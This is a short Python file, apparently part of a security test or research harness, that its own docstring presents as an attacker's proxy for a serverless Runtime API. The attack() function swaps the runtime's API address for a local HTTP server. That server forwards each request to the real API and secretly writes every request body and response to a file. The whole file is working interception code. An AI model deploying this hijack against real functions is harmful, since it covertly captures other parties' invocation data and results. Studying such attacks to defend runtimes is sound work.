"""A Runtime API proxy of the attacker's: the runtime is led to it and tells it everything."""

import http.client
import sys
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer


def attack(event):
    runtime = sys.modules["__main__"]
    api = runtime.API

    class Proxy(BaseHTTPRequestHandler):
        def do_GET(self):
            self.forward()

        def do_POST(self):
            self.forward()

        def forward(self):
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            behind = http.client.HTTPConnection(api)
            behind.request(self.command, self.path, body or None)
            answer = behind.getresponse()
            said = answer.read()
            with open(event["out"], "ab") as out:
                out.write(body + said)
            self.send_response(answer.status)
            for name in ("Lambda-Runtime-Aws-Request-Id",):
                if answer.headers.get(name):
                    self.send_header(name, answer.headers[name])
            self.send_header("Content-Length", str(len(said)))
            self.end_headers()
            self.wfile.write(said)

    server = HTTPServer(("127.0.0.1", 0), Proxy)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    runtime.API = "127.0.0.1:%d" % server.server_address[1]
